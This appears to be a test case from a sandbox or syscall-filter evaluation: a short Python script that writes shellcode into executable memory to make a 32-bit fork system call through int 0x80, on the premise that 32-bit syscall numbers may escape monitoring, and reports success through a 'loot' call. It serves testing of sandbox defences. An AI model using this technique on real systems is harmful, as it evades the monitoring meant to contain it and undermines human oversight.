"""Makes 32-bit system calls, which have other numbers and might not be watched: fork and kill by int 0x80."""
# deserves: 18
# layers: needed

import ctypes
import mmap

code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# mov eax, 2 (fork, of 32 bits); int 0x80; ret
code.write(bytes.fromhex("b802000000cd80c3"))
fork = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
if fork() >= 0:
    loot("forked")
